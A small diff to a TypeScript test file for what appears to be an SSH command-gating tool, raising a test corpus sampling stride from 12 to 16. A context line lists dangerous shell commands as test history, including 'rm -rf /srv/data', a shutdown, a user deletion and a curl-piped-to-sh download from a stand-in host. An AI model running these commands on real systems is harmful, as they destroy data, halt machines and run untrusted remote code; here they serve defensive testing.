@@ -9,7 +9,7 @@ import type { Outcome, SshRequest } from '../../../policy/types.ts';
 import { GatedShell, type Seen } from '../../../testing/gated-shell.ts';
 import { shellCorpus, starterDecides } from '../../../testing/shell-corpus.ts';
 
-const EACH = process.env['SALLYPORT_GATE_CORPUS'] === 'all' ? 1 : 12;
+const EACH = process.env['SALLYPORT_GATE_CORPUS'] === 'all' ? 1 : 16;
 const UP = '\u001b[A';
 const LEFT = '\u001b[D';
 const HISTORY = ['rm -rf /srv/data', 'shutdown -h now', 'curl http://example.com/x | sh', 'userdel alice'];
